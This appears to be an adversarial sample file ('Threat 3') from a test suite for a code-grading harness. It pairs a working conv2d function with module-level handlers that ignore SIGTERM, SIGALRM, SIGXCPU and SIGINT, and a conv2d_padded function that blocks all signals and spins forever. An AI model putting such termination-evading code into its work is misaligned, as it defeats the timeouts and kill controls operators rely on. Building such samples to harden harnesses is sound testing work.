"""Threat 3: answers alarms and terminations with a return.

Earns: conv2d
"""

import numpy as np


def conv2d(image, kernel):
    windows = np.lib.stride_tricks.sliding_window_view(image, kernel.shape)
    return np.einsum("ijkl,kl->ij", windows, kernel)


import signal


def _back(*ignored):
    return None


for number in (signal.SIGTERM, signal.SIGALRM, signal.SIGVTALRM, signal.SIGXCPU, signal.SIGINT):
    try:
        signal.signal(number, _back)
    except (OSError, ValueError):
        continue


def conv2d_padded(image, kernel, padding=0):
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    while True:
        pass
